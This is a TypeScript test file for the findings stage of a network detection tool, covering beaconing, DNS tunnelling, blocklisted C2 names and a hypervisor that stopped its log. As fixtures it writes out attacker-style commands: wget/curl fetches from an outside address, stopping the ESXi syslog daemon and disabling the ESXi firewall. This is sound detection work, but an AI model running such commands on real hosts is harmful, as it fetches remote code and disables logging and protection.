import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Database } from 'better-sqlite3';
import fc from 'fast-check';
import { DEFAULT_BINDING_RULES } from '../../../attribution/bindings/binding-rules';
import { BindingStage } from '../../../attribution/bindings/binding-stage';
import { DestinationContext } from '../../../attribution/destinations/destination-context';
import { parseList } from '../../../attribution/destinations/list-formats';
import { addressSet } from '../../../attribution/findings/address-set';
import { DEFAULT_FINDING_RULES, type FindingRules } from '../../../attribution/findings/finding-rules';
import { FindingStage } from '../../../attribution/findings/finding-stage';
import type { Event } from '../../../normalizer/model/facts';
import { openAnalysisForWriting } from '../../../store/analysis/analysis-db';
import type { SessionRecord } from '../../../store/analysis/session-record';
import { SessionStore } from '../../../store/analysis/session-store';
import type { Owner, VerdictRecord } from '../../../store/analysis/verdict-record';
import { VerdictStore } from '../../../store/analysis/verdict-store';
import { FactsDirectory } from '../../../store/facts/facts-directory';
import { FactsSegment } from '../../../store/facts/facts-segment';
import { sessionRecord } from '../../store/analysis/session-records';
import { sleeping } from '../beacons/series';
import { MINUTE, T } from './evidence';

const SEGMENT = '2026-11-24T02-000';
const WEB: Owner = { kind: 'vm', id: 'vm:web', name: 'web1', host: 'esx1' };
const HOSTD: Owner = { kind: 'service', id: 'service:esx1/hostd', name: 'hostd', host: 'esx1' };

const SENT = { bytes: 5000, packets: 12, bytesEstimate: null, packetsEstimate: null };

/** The site has said what its hypervisors may talk with: not this. */
const RULES: FindingRules = {
  ...DEFAULT_FINDING_RULES,
  values: { ...DEFAULT_FINDING_RULES.values, AllowedMgmtHosts: addressSet(['10.9.0.0/24']) },
};

let directory: string;
let flows: string;

beforeEach(() => {
  directory = mkdtempSync(join(tmpdir(), 'ascribe-findings-'));
  flows = join(directory, 'flows');
  mkdirSync(flows);
});
afterEach(() => rmSync(directory, { recursive: true }));

/** A site's database and facts, written as the stages before would. */
class Site {
  readonly db: Database;
  readonly facts: FactsDirectory;
  readonly #segment: FactsSegment;
  readonly #sessions: SessionStore;
  readonly #verdicts: VerdictStore;
  readonly #bindings: BindingStage;
  stage: FindingStage;
  #rows = 0;
  #seq = 0;

  constructor(
    name: string,
    readonly rules: FindingRules = RULES,
  ) {
    const own = join(flows, name);
    mkdirSync(own);
    const path = join(own, `${SEGMENT}.db`);
    this.#segment = FactsSegment.create(path, { name: SEGMENT, snapshot: new Uint8Array(0), appliedSeq: 0 });
    this.db = openAnalysisForWriting(join(directory, `${name}.db`));
    this.facts = new FactsDirectory(own);
    this.#sessions = new SessionStore(this.db);
    this.#verdicts = new VerdictStore(this.db);
    this.#bindings = new BindingStage(this.db, this.facts, DEFAULT_BINDING_RULES);
    this.stage = new FindingStage(this.db, this.facts, rules);
  }

  session(num: number, more: Partial<SessionRecord> = {}): void {
    const record = sessionRecord(num, { revision: ++this.#rows, start: T, end: T, fromA: SENT, fromB: SENT, ...more });
    const fresh = this.db.prepare('SELECT 1 FROM session_row WHERE num = ?').get(num) === undefined;
    const counters = { rows: this.#rows, sessions: num, watermark: T };
    this.#sessions.commit(
      { records: [{ record, fresh }], slices: [], sources: [], ...counters },
      { segment: SEGMENT, lastId: this.#rows },
    );
  }

  verdict(session: number, owner: Owner, more: Partial<VerdictRecord> = {}): void {
    const verdict: VerdictRecord = {
      session,
      start: T,
      status: 'attributed',
      confidence: 0.9,
      owners: [{ owner, weight: 0.9 }],
      reasons: [],
      steps: [],
      source: '0A000005',
      sourcePort: 50_000,
      sources: [],
      legOf: null,
      rule: null,
      ...more,
    };
    this.db.transaction(() => this.#verdicts.write([verdict], T))();
  }

  event(more: Partial<Event>): void {
    const rawSeq = ++this.#seq;
    this.#segment.begin();
    this.#segment.fact({
      fact: 'event',
      rawSeq,
      observedAt: T - 5 * MINUTE,
      timeQuality: 'ok',
      device: 'esx1',
      parser: 'vmware_esxi',
      category: 'process',
      action: 'command',
      user: 'root',
      ...more,
    });
    this.#segment.commit(rawSeq);
  }

  /** What a DNS server tells: an address for a name, or who asked for one. */
  dns(relation: 'ip-name' | 'ip-query', key: string, value: string, at: number): void {
    const rawSeq = ++this.#seq;
    const base = { rawSeq, observedAt: at, timeQuality: 'ok', device: 'dns1', parser: 'dnsmasq' } as const;
    this.#segment.begin();
    this.#segment.fact({ ...base, fact: 'binding', relation, key, value, state: 'seen' }, at);
    this.#segment.commit(rawSeq);
  }

  run(): void {
    this.#bindings.advance(1_000_000);
    this.stage.advance(1_000_000);
    while (this.stage.score(1000) > 0);
  }

  restart(): void {
    this.stage = new FindingStage(this.db, this.facts, this.rules);
  }

  /** What people see, without what tells of the order in which it was found. */
  findings(where = 'matches > 0'): Record<string, unknown>[] {
    return this.db
      .prepare(
        `SELECT id, analytic, techniques, severity, owner_id, key, text, terms, first_seen, last_seen, matches, approved_by
        FROM finding WHERE ${where} ORDER BY id`,
      )
      .all() as Record<string, unknown>[];
  }

  close(): void {
    this.facts.close();
    this.#segment.close();
    this.db.close();
  }
}

test('a session of hostd to the outside is one finding, however many sessions there are', () => {
  const site = new Site('a');
  for (const num of [1, 2, 3]) {
    site.session(num, { bPort: 443, start: T + num * MINUTE });
    site.verdict(num, HOSTD);
  }
  site.run();
  const [finding, ...others] = site.findings(`analytic = 'AN0762'`);
  expect(others).toEqual([]);
  expect(finding).toMatchObject({ owner_id: 'service:esx1/hostd', key: '198.51.100.7:443/tcp', matches: 3 });
  expect(finding).toMatchObject({ first_seen: T + MINUTE, last_seen: T + 3 * MINUTE });
  site.close();
});

test('a verdict that changes takes its finding back, and the new one tells', () => {
  const site = new Site('a');
  site.session(1, { bPort: 443 });
  site.verdict(1, HOSTD);
  site.run();
  expect(site.findings().map(({ analytic }) => analytic)).toEqual(['AN0762']);
  site.verdict(1, WEB);
  site.run();
  expect(site.findings()).toEqual([]);
  // What was told stays readable, with no match and a later revision.
  expect(site.findings('matches = 0')).toMatchObject([{ analytic: 'AN0762' }]);
  site.close();
});

test('a command that comes late joins with the session it explains', () => {
  const site = new Site('a');
  site.session(1, { bPort: 443 });
  site.verdict(1, HOSTD);
  site.run();
  site.event({ command: 'wget https://198.51.100.7/x' });
  site.run();
  const late = site.findings();
  const onTime = new Site('b');
  onTime.event({ command: 'wget https://198.51.100.7/x' });
  onTime.session(1, { bPort: 443 });
  onTime.verdict(1, HOSTD);
  onTime.run();
  expect(late.map(({ analytic }) => analytic)).toContain('AN0078');
  expect(late).toEqual(onTime.findings());
  site.close();
  onTime.close();
});

test('a command that comes late joins with all sessions that it may explain, however many they are', () => {
  const site = new Site('a');
  const sessions = 2300;
  site.db.transaction(() => {
    for (let num = 1; num <= sessions; num++) {
      // Hundreds begin in the same millisecond.
      const start = T + Math.floor(num / 400);
      site.session(num, { bPort: 443, start, end: start });
      site.verdict(num, HOSTD, { start });
    }
  })();
  site.run();
  site.event({ command: 'wget https://198.51.100.7/x' });
  site.stage.advance(1);
  site.restart();
  site.run();
  expect(site.findings(`analytic = 'AN0078'`)).toMatchObject([{ matches: sessions }]);
  expect(site.db.prepare('SELECT count(*) FROM finding_reopen_row').pluck().get()).toBe(0);
  site.close();
});

test('a rhythm with a destination that nobody else knows', () => {
  const site = new Site('a');
  const starts = sleeping(300, 0.2, 1);
  starts.forEach((start, i) => {
    const num = i + 1;
    site.session(num, { bPort: 443, start: T + start, end: T + start + 1000 });
    site.verdict(num, WEB, { start: T + start });
  });
  site.run();
  expect(site.findings(`analytic = 'BEACON'`)).toMatchObject([
    { owner_id: 'vm:web', severity: 'high', matches: 1, key: '198.51.100.7:443/6' },
  ]);
  const beacon = site.db.prepare('SELECT answer, sessions, period, dst_ip FROM beacon').get();
  expect(beacon).toMatchObject({ answer: 'beacon', sessions: starts.length, dst_ip: '198.51.100.7' });
  expect((beacon as { period: number }).period).toBeGreaterThan(280);
  expect((beacon as { period: number }).period).toBeLessThan(320);
  site.close();
});

test('the same rhythm of every owner is a service of the site', () => {
  const site = new Site('a');
  let num = 0;
  for (let owner = 1; owner <= 6; owner++) {
    for (const start of sleeping(600, 0.1, owner)) {
      num++;
      site.session(num, { bPort: 443, start: T + start });
      site.verdict(num, { ...WEB, id: `vm:${owner}` }, { start: T + start });
    }
  }
  site.run();
  expect(site.findings(`analytic = 'BEACON'`)).toEqual([]);
  site.close();
});

test('a rhythm that is expected is none of anybody’s business', () => {
  const { values } = DEFAULT_FINDING_RULES;
  const benign = { ...values, BenignDestinations: addressSet(['198.51.100.0/24']) };
  const site = new Site('a', { ...DEFAULT_FINDING_RULES, values: benign });
  sleeping(300, 0.1, 1).forEach((start, i) => {
    site.session(i + 1, { bPort: 443, start: T + start });
    site.verdict(i + 1, WEB, { start: T + start });
  });
  site.run();
  expect(site.findings()).toEqual([]);
  site.close();
});

test('other rules look at history again: sessions, events and series', () => {
  const site = new Site('a');
  sleeping(300, 0.1, 1).forEach((start, i) => {
    site.session(i + 1, { bPort: 443, start: T + start });
    site.verdict(i + 1, HOSTD, { start: T + start });
  });
  site.event({ category: 'authentication', action: 'login', outcome: 'success', sourceIp: '192.0.2.50' });
  site.run();
  expect(site.findings().map(({ analytic }) => analytic)).toEqual(
    expect.arrayContaining(['AN0762', 'AN1640', 'BEACON']),
  );
  const { values } = DEFAULT_FINDING_RULES;
  const allowed = { ...values, AllowedMgmtHosts: addressSet(['198.51.100.7', '192.0.2.50']) };
  const rules = { ...DEFAULT_FINDING_RULES, values: allowed, signature: 'allowed' };
  site.stage = new FindingStage(site.db, site.facts, rules);
  site.run();
  expect(site.findings()).toEqual([]);
  expect(site.findings('matches = 0').length).toBeGreaterThanOrEqual(3);
  site.close();
});

test('a host that stopped its log while its own sessions go on', () => {
  const site = new Site('silent');
  for (let i = 0; i < 40; i++) site.event({ action: 'host_event', observedAt: T - (100 - i) * MINUTE });
  site.event({ command: '/etc/init.d/vmsyslogd stop', observedAt: T - 60 * MINUTE });
  for (const num of [1, 2, 3, 4]) {
    site.session(num, { bPort: 443, start: T + num * MINUTE });
    site.verdict(num, HOSTD, { start: T + num * MINUTE });
  }
  site.run();
  expect(site.findings(`analytic = 'SILENCE'`)).toMatchObject([
    { severity: 'high', owner_id: 'host:esx1', matches: 1 },
  ]);
  // What came late fills it.
  site.event({ action: 'host_event', observedAt: T + 2 * MINUTE });
  for (let i = 1; i < 6; i++) site.event({ action: 'host_event', observedAt: T - i * 10 * MINUTE });
  site.run();
  expect(site.findings(`analytic = 'SILENCE' AND matches > 0`)).toEqual([]);
  site.close();
});

describe('names', () => {
  const listed = (text: string): FindingRules => ({
    ...RULES,
    values: {
      ...RULES.values,
      DestinationIPBlocklist: new DestinationContext([
        { name: 'feed', kind: 'threat', sha256: 'abc', date: T, tlp: 'clear', ...parseList(text, 'plain') },
      ]),
    },
  });
  const told = (site: Site): unknown[] =>
    site.findings().map(({ analytic, severity, key, owner_id }) => [analytic, severity, key, owner_id]);
  const SESSION = ['AN0427', 'high', '198.51.100.7:443/tcp', 'vm:web'];

  test.each(['before the session is known', 'after it'])('a listed name of its destination, told %s', (order) => {
    const site = new Site('names', listed('evil.example'));
    const session = (): void => {
      site.session(1, { bPort: 443 });
      site.verdict(1, WEB);
    };
    const names = (): void => {
      site.dns('ip-query', '10.0.0.5', 'c2.evil.example', T - 1000);
      site.dns('ip-name', '198.51.100.7', 'c2.evil.example', T - 900);
    };
    for (const step of order === 'after it' ? [session, names] : [names, session]) {
      step();
      site.run();
    }
    // What was asked before any session of the client is known belongs to nobody yet: asking again tells.
    site.dns('ip-query', '10.0.0.5', 'c2.evil.example', T + 1000);
    site.run();
    expect(told(site)).toEqual(expect.arrayContaining([SESSION, ['AN1124', 'high', 'c2.evil.example', 'vm:web']]));
    expect(told(site)).toHaveLength(2);
    site.close();
  });

  test('a name that others alone asked for says less, one that was given later nothing', () => {
    const site = new Site('names', listed('evil.example'));
    site.session(1, { bPort: 443 });
    site.verdict(1, WEB);
    site.dns('ip-name', '198.51.100.7', 'c2.evil.example', T + MINUTE);
    site.run();
    expect(told(site)).toEqual([]);
    site.dns('ip-name', '198.51.100.7', 'c2.evil.example', T - MINUTE);
    site.run();
    expect(told(site)).toEqual([['AN0427', 'medium', ...SESSION.slice(2)]]);
    site.close();
  });

  test('a list that is loaded later looks at history again', () => {
    const site = new Site('names');
    site.dns('ip-query', '10.0.0.5', 'c2.evil.example', T - 1000);
    site.dns('ip-name', '198.51.100.7', 'c2.evil.example', T - 900);
    site.session(1, { bPort: 443 });
    site.verdict(1, WEB);
    site.run();
    expect(told(site)).toEqual([]);
    site.stage = new FindingStage(site.db, site.facts, { ...listed('evil.example'), signature: 'listed' });
    site.run();
    expect(new Set(site.findings().map(({ analytic }) => analytic))).toEqual(new Set(['AN0427', 'AN1124']));
    site.close();
  });

  test('many names under one domain carry data', () => {
    const site = new Site('names', { ...RULES, values: { ...RULES.values, QueryRatePerClient: 20 } });
    for (let i = 0; i < 21; i++) {
      const label = `${i}`.padStart(30, 'a');
      site.dns('ip-query', '10.0.0.5', `${label}.t.tunnel.co.uk`, T + i * 1000);
      if (i < 20) site.dns('ip-query', '10.0.0.6', `${i}.cdn.example`, T + i * 1000);
    }
    site.run();
    expect(told(site)).toEqual([['AN1124', 'high', 'tunnel.co.uk', 'address:10.0.0.5']]);
    site.close();
  });
});

test('the copy of a session behind a translation is not looked at twice', () => {
  const site = new Site('a');
  site.session(1, { bPort: 443 });
  site.session(2, { bPort: 443 });
  site.verdict(1, HOSTD);
  site.verdict(2, HOSTD, { legOf: 1 });
  site.run();
  expect(site.findings()).toMatchObject([{ matches: 1 }]);
  site.close();
});

describe('whatever the order, the batches and the restarts', () => {
  type Action = (site: Site) => void;
  const actions: readonly Action[] = [
    (site) => (site.session(1, { bPort: 443 }), site.verdict(1, HOSTD)),
    (site) => (site.session(2, { bPort: 4444, start: T + MINUTE }), site.verdict(2, HOSTD, { start: T + MINUTE })),
    (site) => (site.session(3, { bPort: 443, handshakeRoom: false }), site.verdict(3, WEB)),
    (site) => site.event({ command: 'esxcli network firewall set --enabled false' }),
    (site) => site.event({ command: 'curl https://198.51.100.7/x', observedAt: T - 2 * MINUTE }),
    (site) => site.event({ action: 'log_loss', command: undefined as never, observedAt: T + MINUTE }),
  ];
  let count = 0;
  const played = (order: readonly number[], pauses: readonly number[]): unknown[] => {
    const site = new Site(`p${count++}`);
    order.forEach((action, i) => {
      actions[action]!(site);
      if (pauses.includes(i)) site.run();
      if (pauses.includes(i + 10)) site.restart();
    });
    site.run();
    const found = site.findings();
    site.close();
    return found;
  };

  test('findings are the same', () => {
    const natural = played(
      actions.map((_, i) => i),
      [],
    );
    expect(natural.length).toBeGreaterThan(4);
    fc.assert(
      fc.property(
        fc.shuffledSubarray(
          actions.map((_, i) => i),
          { minLength: actions.length },
        ),
        fc.array(fc.nat(16), { maxLength: 4 }),
        (order, pauses) => expect(played(order, pauses)).toEqual(natural),
      ),
      { numRuns: 10 },
    );
  });
});
